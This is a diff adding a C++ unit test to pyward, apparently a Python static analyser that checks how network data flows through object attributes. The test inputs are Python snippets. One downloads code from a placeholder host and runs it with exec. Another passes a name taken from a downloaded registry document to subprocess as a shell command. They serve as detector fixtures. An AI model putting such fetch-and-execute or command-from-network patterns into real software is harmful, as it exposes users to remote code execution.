@@ -176,5 +176,29 @@ TEST(ObjectFlows, AttributesOfOneClassDoNotLeakIntoAnother) {
   EXPECT_EQ(Find(fs, "exfiltration"), nullptr) << Names(fs);
 }
 
+TEST(ObjectFlows, NetworkDataFollowsSelfOnlyWithinOneMethod) {
+  auto fs = Analyze(
+      "import requests\n"
+      "class Updater:\n"
+      "    def run(self):\n"
+      "        self.code = requests.get('https://x.example/c.py').text\n"
+      "        exec(self.code)\n"
+      "Updater().run()\n");
+  const Finding* f = Find(fs, "exec-remote");
+  ASSERT_NE(f, nullptr) << Names(fs);
+  EXPECT_NE(f->message.find("self.code"), std::string::npos) << f->message;
+  // A client keeping a downloaded document and naming a command after it.
+  auto client = Analyze(
+      "import requests, subprocess\n"
+      "class Pkg:\n"
+      "    def fetch(self):\n"
+      "        self.meta = requests.get('https://registry.example/p').json()\n"
+      "        self.name = self.meta['name']\n"
+      "    def build(self):\n"
+      "        subprocess.getstatusoutput(self.name)\n"
+      "p = Pkg()\np.fetch()\np.build()\n");
+  EXPECT_EQ(Find(client, "download-exec"), nullptr) << Names(client);
+}
+
 }  // namespace
 }  // namespace pyward
